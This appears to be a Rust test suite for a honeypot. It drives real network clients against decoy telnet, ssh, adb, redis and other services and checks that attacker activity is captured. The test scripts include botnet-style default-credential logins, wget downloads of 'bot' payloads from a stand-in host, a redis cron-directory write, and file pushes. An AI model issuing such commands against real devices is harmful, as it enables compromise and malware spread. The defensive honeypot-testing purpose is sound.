//! The clients that people, scanners and bots use, each through a whole talk with lure processes as they run in service:
//! confined, on their usual ports, in a network namespace of the test.

use super::process::{PATIENCE, Process};
use super::space::{have, inside};
use noroshi_model::lure::Lure;
use noroshi_model::request::Withheld;
use std::collections::BTreeSet;
use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::process::{Command, Stdio};

/// What a program says, on both outputs, and whether it was content.
fn run(words: &[&str]) -> (String, bool) {
    let patience = PATIENCE.as_secs().to_string();
    let mut command = Command::new("timeout");
    let done = command.arg(patience).args(words).stdin(Stdio::null()).output().unwrap();
    let said = [done.stdout, done.stderr].map(|bytes| String::from_utf8_lossy(&bytes).into_owned()).concat();
    println!("$ {}\n{said}", words.join(" "));
    (said, done.status.success())
}

/// The same, of a program that must be content.
fn talk(words: &[&str]) -> String {
    let (said, content) = run(words);
    assert!(content, "{words:?}: {said}");
    said
}

/// Types each text when what stands before it was seen; everything that was seen.
fn converse(command: &mut Command, script: &[(&str, &str)]) -> String {
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::inherit()).spawn().unwrap();
    let (mut input, mut output) = (child.stdin.take().unwrap(), child.stdout.take().unwrap());
    let (mut seen, mut from, mut buffer) = (String::new(), 0, [0; 4_096]);
    for (wait, say) in script {
        while !seen[from..].contains(wait) {
            let length = output.read(&mut buffer).unwrap();
            assert!(length > 0, "it ended without {wait:?}: {seen}");
            seen.push_str(&String::from_utf8_lossy(&buffer[..length]));
        }
        from = seen.len();
        input.write_all(say.as_bytes()).unwrap();
    }
    let mut rest = Vec::new();
    output.read_to_end(&mut rest).unwrap();
    seen.push_str(&String::from_utf8_lossy(&rest));
    drop(child.wait());
    println!("{seen}");
    seen
}

#[test]
fn dig_is_answered() {
    if !have("dig") || !inside("clients::dig_is_answered") {
        return;
    }
    let lures = Process::start(7, "router", &[Lure::Dns]);
    let said = talk(&["dig", "+tries=1", "@127.0.0.1", "www.example.com", "A"]);
    assert!(said.contains("status: NOERROR") && said.contains("ANSWER: 1"), "{said}");
    let said = talk(&["dig", "+tries=1", "+notcp", "@127.0.0.1", "example.com", "ANY"]);
    assert!(said.contains("HINFO") && said.contains("RFC8482"), "{said}");
    let said = talk(&["dig", "+tries=1", "+short", "@127.0.0.1", "version.bind", "CH", "TXT"]);
    assert!(said.contains('"') && !said.contains(";;"), "{said}");
    let row = &lures.requests()[0];
    assert_eq!((row.name.as_str(), row.method.as_str(), row.withheld), ("www.example.com.", "A", Withheld::No));
}

#[test]
fn clocks_are_read_by_ntpq_and_by_what_asks_in_mode_7() {
    if !have("ntpq") || !have("nmap") || !inside("clients::clocks_are_read_by_ntpq_and_by_what_asks_in_mode_7") {
        return;
    }
    // A new process each: five requests within ten seconds mute a network.
    let _lures = Process::start(7, "router", &[Lure::Ntp]);
    let said = talk(&["ntpq", "-c", "rv", "127.0.0.1"]);
    assert!(said.contains("version=\"ntpd ") && said.contains("stratum=2"), "{said}");
    drop(_lures);
    let _lures = Process::start(7, "router", &[Lure::Ntp]);
    let said = talk(&["ntpq", "-n", "-p", "127.0.0.1"]);
    let line = said.lines().last().unwrap_or_default();
    let words: Vec<&str> = line.split_whitespace().collect();
    assert!(line.starts_with('*') && words.len() == 10, "{said}");
    // Stratum, poll, reach in octal, delay: a peer that was heard a while ago, and lately.
    assert_eq!((words[2], words[5]), ("1", "64"), "{said}");
    assert!(u16::from_str_radix(words[6], 8).is_ok_and(|reach| reach > 0 && reach < 256), "{said}");
    drop(_lures);
    // Debian has no ntpdc any more; the monitor list is asked for by a scanner's script in the same mode.
    let lures = Process::start(7, "router", &[Lure::Ntp]);
    let said = talk(&["nmap", "-n", "-Pn", "-sU", "-p", "123", "--script", "ntp-monlist", "127.0.0.1"]);
    assert!(said.contains("123/udp open") && said.contains("ntp-monlist") && said.contains("127.0.0.1"), "{said}");
    let mut rows = lures.requests();
    while !rows.iter().any(|row| row.method == "monlist") {
        rows = lures.requests();
    }
}

#[test]
fn snmpget_memccp_and_coap_clients_are_content() {
    const NAME: &str = "clients::snmpget_memccp_and_coap_clients_are_content";
    let all = ["snmpget", "memccp", "coap-client-notls"].iter().all(|program| have(program));
    if !all || !inside(NAME) {
        return;
    }
    let lures = Process::start(7, "router", &[Lure::Snmp, Lure::Memcached, Lure::Coap]);
    let name = "1.3.6.1.2.1.1.5.0";
    let two = talk(&["snmpget", "-v2c", "-c", "public", "-r", "0", "-Oqv", "127.0.0.1", name]);
    let one = talk(&["snmpget", "-v1", "-c", "public", "-r", "0", "-Oqv", "127.0.0.1", name]);
    assert!(!one.trim().is_empty() && one == two, "{one} {two}");
    assert_eq!(lures.requests()[0].method, "get");
    drop(lures);
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("planted");
    std::fs::write(&file, "x").unwrap();
    let lures = Process::start(7, "router", &[Lure::Snmp, Lure::Memcached, Lure::Coap]);
    talk(&["memccp", "--udp", "--servers=127.0.0.1:11211", file.to_str().unwrap()]);
    assert!(lures.requests()[0].method.contains("set"), "what is set is acknowledged and forgotten");
    drop(lures);
    let _lures = Process::start(7, "router", &[Lure::Snmp, Lure::Memcached, Lure::Coap]);
    let said = talk(&["coap-client-notls", "-B", "30", "-m", "get", "coap://127.0.0.1/.well-known/core"]);
    assert!(said.contains("</.well-known/core>"), "{said}");
}

/// Hands the searches of an LDAP client on as datagrams: Debian's ldapsearch is built without the connection-less form.
/// The client's bind is answered here; the search and its results are the client's and the lure's own.
fn relay(listener: &TcpListener) {
    let (mut client, _) = listener.accept().unwrap();
    let lure = UdpSocket::bind("127.0.0.1:0").unwrap();
    lure.set_read_timeout(Some(PATIENCE)).unwrap();
    lure.connect("127.0.0.1:389").unwrap();
    let mut buffer = [0; 4_096];
    while let Ok(length @ 8..) = client.read(&mut buffer) {
        // LDAPMessage: sequence, identifier, operation (RFC 4511, section 4.1.1); 0x60 binds, 0x42 unbinds.
        match buffer[5] {
            0x60 => {
                client.write_all(&[&[0x30, 12, 2, 1, buffer[4], 0x61, 7, 0x0a, 1, 0, 4, 0, 4, 0][..]].concat()).unwrap()
            }
            0x63 => {
                lure.send(&buffer[..length]).unwrap();
                let length = lure.recv(&mut buffer).unwrap();
                client.write_all(&buffer[..length]).unwrap();
            }
            _ => return,
        }
    }
}

#[test]
fn ldapsearch_reads_the_root_entry() {
    if !have("ldapsearch") || !inside("clients::ldapsearch_reads_the_root_entry") {
        return;
    }
    let lures = Process::start(7, "router", &[Lure::Cldap]);
    let listener = TcpListener::bind("127.0.0.1:3389").unwrap();
    let handing = std::thread::spawn(move || relay(&listener));
    let said = talk(&["ldapsearch", "-x", "-LLL", "-H", "ldap://127.0.0.1:3389", "-s", "base", "-b", ""]);
    handing.join().unwrap();
    for attribute in ["dnsHostName: ", "defaultNamingContext: DC=", "supportedLDAPVersion: 3", "currentTime: 20"] {
        assert!(said.contains(attribute), "{said}");
    }
    assert_eq!(lures.requests()[0].method, "search");
}

#[test]
fn telnet_clients_log_in_and_type() {
    if !have("busybox") || !have("telnet") || !inside("clients::telnet_clients_log_in_and_type") {
        return;
    }
    let lures = Process::start(7, "camera", &[Lure::Telnet]);
    println!("{}", lures.confined);
    assert!(lures.confined.contains("seccomp"));
    for client in [&["busybox", "telnet", "127.0.0.1"][..], &["telnet", "127.0.0.1"]] {
        // What a keyboard sends at the end of a line.
        let script = [
            ("ogin: ", "root\r"),
            ("assword: ", "xc3511\r"),
            ("# ", "cat /proc/mounts; /bin/busybox ECCHI\r"),
            ("ECCHI: applet not found", "echo -ne '\\x7fELF' > /tmp/x && wget http://192.0.2.66/bot.arm\r"),
            ("timed out", "exit\r"),
        ];
        let seen = converse(Command::new(client[0]).args(&client[1..]), &script);
        assert!(seen.contains("rootfs / "), "{seen}");
        let kept = lures.dialogue();
        assert_eq!(kept.session.credentials, ["root:xc3511"], "{client:?}");
        assert_eq!(kept.session.urls, ["http://192.0.2.66/bot.arm"]);
        assert_eq!(kept.left.iter().map(|left| &left.content[..]).collect::<Vec<_>>(), [b"\x7fELF"]);
        assert!(kept.recording.contains("\"version\":2"), "{}", kept.recording);
    }
}

#[test]
fn curl_redis_cli_and_adb_complete_their_talk() {
    const NAME: &str = "clients::curl_redis_cli_and_adb_complete_their_talk";
    let all = ["curl", "redis-cli", "adb"].iter().all(|program| have(program));
    if !all || !inside(NAME) {
        return;
    }
    let lures = Process::start(7, "camera", &[Lure::Http, Lure::Redis, Lure::Adb, Lure::Upnp]);
    let said = talk(&[
        "curl",
        "-sS",
        "-i",
        "http://127.0.0.1/",
        "--next",
        "-sS",
        "-d",
        "username=a&password=b",
        "http://127.0.0.1/login.cgi",
    ]);
    assert!(said.contains("<form") && said.contains("Server: "), "{said}");
    assert_eq!(lures.dialogue().session.credentials, ["a:b"]);
    let said = talk(&["curl", "-sS", "http://127.0.0.1:5000/rootDesc.xml"]);
    assert!(said.contains("InternetGatewayDevice"), "{said}");
    lures.dialogue();
    let said = talk(&["redis-cli", "-h", "127.0.0.1", "info", "server"]);
    assert!(said.contains("redis_version:"), "{said}");
    lures.dialogue();
    let said = talk(&["redis-cli", "-h", "127.0.0.1", "config", "set", "dir", "/var/spool/cron"]);
    assert_eq!(said.trim(), "OK");
    lures.dialogue();
    let folder = tempfile::tempdir().unwrap();
    let (home, file) = (folder.path().to_str().unwrap(), folder.path().join("bot.sh"));
    std::fs::write(&file, "#!/bin/sh\n").unwrap();
    let adb = |words: &[&str]| {
        let (home, key) = (format!("HOME={home}"), format!("ANDROID_SDK_HOME={home}"));
        talk(&[&["env", &home, &key, "adb"][..], words].concat())
    };
    assert!(adb(&["connect", "127.0.0.1:5555"]).contains("connected to 127.0.0.1:5555"));
    let on = |words: &[&str]| adb(&[&["-s", "127.0.0.1:5555"][..], words].concat());
    assert!(on(&["shell", "id; wget http://192.0.2.66/a"]).contains("uid=0(root)"));
    assert!(on(&["push", file.to_str().unwrap(), "/data/local/tmp/bot.sh"]).contains("1 file pushed"));
    adb(&["kill-server"]);
    // Its server also looks for emulators on its own, in a dialogue apart.
    let kept = std::iter::repeat_with(|| lures.dialogue()).find(|kept| !kept.left.is_empty()).unwrap();
    assert_eq!(
        (kept.session.protocol.as_str(), &kept.session.urls[..]),
        ("adb", &["http://192.0.2.66/a".to_owned()][..])
    );
    assert_eq!(kept.left[0].content, b"#!/bin/sh\n");
}

/// What nmap makes of each port: service and version.
fn named(said: &str) -> Vec<(u16, String)> {
    let line = |line: &str| {
        let (port, rest) = line.split_once('/')?;
        let rest = rest.split_once("open")?.1;
        Some((port.parse().ok()?, rest.trim().to_owned()))
    };
    said.lines().filter_map(line).collect()
}

#[test]
fn nmap_names_the_device_and_no_honeypot() {
    if !have("nmap") || !inside("clients::nmap_names_the_device_and_no_honeypot") {
        return;
    }
    let mut doors = vec![Lure::Telnet, Lure::Http, Lure::Redis, Lure::Adb, Lure::Upnp];
    if cfg!(feature = "ssh") {
        doors.push(Lure::Ssh);
    }
    let mut ssh = BTreeSet::new();
    // A login or a page that nmap is not certain of costs it most of a minute: one device of which it is.
    let slow = [(23, "telnet"), (80, "http"), (5_000, "upnp")];
    for (seed, persona, more) in [(1, "router", &[][..]), (2, "camera", &slow), (3, "recorder", &[])] {
        let _lures = Process::start(seed, persona, &doors);
        let expected = [&[(5_555, "adb"), (6_379, "redis")][..], more].concat();
        let ports: Vec<String> = expected.iter().map(|(port, _): &(u16, &str)| port.to_string()).collect();
        let ports = format!("22,{}", ports.join(","));
        let said = talk(&["nmap", "-n", "-Pn", "-sV", "-p", &ports, "127.0.0.1"]);
        let lower = said.to_ascii_lowercase();
        for bad in ["honey", "cowrie", "kippo", "dionaea", "glastopf", "conpot", "tarpit", "media receiver"] {
            assert!(!lower.contains(bad), "{bad}: {said}");
        }
        let found = named(&said);
        let of =
            |port: u16| found.iter().find(|(at, _)| *at == port).map(|(_, name)| name.as_str()).unwrap_or_default();
        for (port, service) in expected {
            assert!(of(port).starts_with(service), "{port}: {said}");
        }
        assert!(of(5_555).contains("Android Debug Bridge") && of(6_379).contains("Redis key-value store"), "{said}");
        assert!(more.is_empty() || of(23).contains("telnetd"), "{said}");
        if cfg!(feature = "ssh") {
            assert!(of(22).contains("Dropbear sshd"), "{said}");
            ssh.insert(of(22).to_owned());
        }
    }
    println!("{ssh:?}");
}

#[cfg(feature = "ssh")]
mod ssh {
    use super::*;
    use std::net::TcpStream;
    use std::os::unix::fs::PermissionsExt;
    use std::path::Path;
    use std::time::Instant;

    /// OpenSSH, with a password given by a program.
    fn client(program: &str, folder: &Path) -> Command {
        let ask = folder.join("ask.sh");
        std::fs::write(&ask, "#!/bin/sh\necho xc3511\n").unwrap();
        std::fs::set_permissions(&ask, std::fs::Permissions::from_mode(0o700)).unwrap();
        let mut command = Command::new(program);
        command.env("SSH_ASKPASS", &ask).env("SSH_ASKPASS_REQUIRE", "force").env("DISPLAY", "none");
        command.args(["-F", "/dev/null", "-o", "LogLevel=ERROR", "-o", "PubkeyAuthentication=no"]);
        command.args(["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"]);
        command
    }

    #[test]
    fn openssh_runs_types_and_copies() {
        if !have("ssh") || !have("scp") || !inside("clients::ssh::openssh_runs_types_and_copies") {
            return;
        }
        let (lures, folder) = (Process::start(7, "camera", &[Lure::Ssh]), tempfile::tempdir().unwrap());
        let mut command = client("ssh", folder.path());
        let done = command.args(["root@127.0.0.1", "uname -m; wget http://192.0.2.66/x.sh"]).output().unwrap();
        assert_eq!(done.status.code(), Some(1), "nothing was fetched");
        assert!(String::from_utf8_lossy(&done.stdout).starts_with("armv5tejl\n"), "{done:?}");
        let session = lures.dialogue().session;
        assert_eq!(
            (session.credentials, session.urls),
            (vec!["root:xc3511".into()], vec!["http://192.0.2.66/x.sh".into()])
        );
        assert!(session.client.is_some_and(|name| name.starts_with("SSH-2.0-OpenSSH")));
        assert!(session.fingerprint.is_some_and(|hassh| hassh.len() == 32));
        for (line, status) in [("true", 0), ("no-such-program", 127), ("exit 3", 3)] {
            let done = client("ssh", folder.path()).args(["root@127.0.0.1", line]).output().unwrap();
            assert_eq!(done.status.code(), Some(status), "{line}");
            lures.dialogue();
        }
        let script = [("# ", "id\n"), ("uid=0(root)", "exit\n")];
        converse(client("ssh", folder.path()).args(["-tt", "root@127.0.0.1"]), &script);
        assert_eq!(lures.dialogue().session.commands, ["id", "exit"]);
        let file = folder.path().join("bot.bin");
        std::fs::write(&file, vec![0x7f; 70_000]).unwrap();
        for how in ["-O", "-s"] {
            let done =
                client("scp", folder.path()).arg(how).arg(&file).arg("root@127.0.0.1:/tmp/bot").output().unwrap();
            assert!(done.status.success(), "{how}: {done:?}");
            assert_eq!(lures.dialogue().left[0].content.len(), 70_000, "{how}");
        }
    }

    #[test]
    fn no_forward_leads_anywhere() {
        if !have("ssh") || !have("curl") || !inside("clients::ssh::no_forward_leads_anywhere") {
            return;
        }
        let (lures, folder) = (Process::start(7, "camera", &[Lure::Ssh]), tempfile::tempdir().unwrap());
        // Nobody must come here.
        let canary = TcpListener::bind("127.0.0.1:8888").unwrap();
        canary.set_nonblocking(true).unwrap();
        let mut command = client("ssh", folder.path());
        command.args(["-N", "-L", "127.0.0.1:7001:127.0.0.1:8888", "-D", "127.0.0.1:7002", "root@127.0.0.1"]);
        let mut forwarding = command.stdin(Stdio::null()).spawn().unwrap();
        let begun = Instant::now();
        let mut through = loop {
            match TcpStream::connect("127.0.0.1:7001") {
                Ok(stream) => break stream,
                Err(_) => assert!(begun.elapsed() < PATIENCE, "it does not forward"),
            }
        };
        drop(through.write_all(b"GET / HTTP/1.0\r\n\r\n"));
        assert!(!matches!(through.read(&mut [0; 16]), Ok(1..)), "someone answered");
        let proxied = ["curl", "-sS", "--max-time", "20", "--socks5", "127.0.0.1:7002", "http://127.0.0.1:8888/"];
        assert!(!run(&proxied).1);
        let mapped = [
            "curl",
            "-sS",
            "--max-time",
            "20",
            "--socks5-hostname",
            "127.0.0.1:7002",
            "http://[::ffff:127.0.0.1]:8888/",
        ];
        assert!(!run(&mapped).1);
        forwarding.kill().unwrap();
        forwarding.wait().unwrap();
        let steps = lures.dialogue().session.steps;
        assert_eq!(steps.matches("\"forward\":\"local\"").count(), 3, "{steps}");
        assert!(steps.contains("8888"), "{steps}");
        for (flag, there) in
            [("-W", "127.0.0.1:8888"), ("-W", "[::ffff:127.0.0.1]:8888"), ("-R", "7003:127.0.0.1:8888")]
        {
            let mut command = client("ssh", folder.path());
            command.args(["-o", "ExitOnForwardFailure=yes", flag, there]);
            let done = command
                .args((flag == "-R").then_some("-N"))
                .arg("root@127.0.0.1")
                .stdin(Stdio::null())
                .output()
                .unwrap();
            assert!(!done.status.success(), "{flag} {there}");
            let kind = if flag == "-R" { "remote" } else { "local" };
            let steps = lures.dialogue().session.steps;
            assert!(steps.contains(&format!("\"forward\":\"{kind}\"")), "{steps}");
        }
        assert_eq!(canary.accept().unwrap_err().kind(), std::io::ErrorKind::WouldBlock);
    }

    #[test]
    fn sensors_differ_in_keys_banners_and_algorithms() {
        const NAME: &str = "clients::ssh::sensors_differ_in_keys_banners_and_algorithms";
        if !have("ssh-keyscan") || !have("nmap") || !inside(NAME) {
            return;
        }
        let (mut keys, mut lists) = (BTreeSet::new(), BTreeSet::new());
        let scan = |seed: u64| {
            let _lures = Process::start(seed, "router", &[Lure::Ssh]);
            let said = talk(&["ssh-keyscan", "-t", "ed25519,ecdsa", "127.0.0.1"]);
            let mut found: Vec<String> =
                said.lines().filter(|line| !line.starts_with('#')).map(str::to_owned).collect();
            found.sort();
            found
        };
        for seed in 1..=8 {
            let found = scan(seed);
            assert!(!found.is_empty() && found.iter().all(|key| keys.insert(key.clone())), "{found:?} twice");
        }
        assert!(scan(3).iter().all(|key| !keys.insert(key.clone())), "a sensor keeps its keys");
        assert!(keys.iter().any(|key| key.contains("ecdsa")) && keys.iter().any(|key| key.contains("ed25519")));
        for seed in 1..=8 {
            let _lures = Process::start(seed, "router", &[Lure::Ssh]);
            let said = talk(&["nmap", "-n", "-Pn", "-p", "22", "--script", "ssh2-enum-algos", "127.0.0.1"]);
            lists.insert(said.lines().filter(|line| line.starts_with('|')).collect::<Vec<_>>().join("\n"));
        }
        assert!(lists.len() >= 4, "{} kinds among eight sensors", lists.len());
    }
}
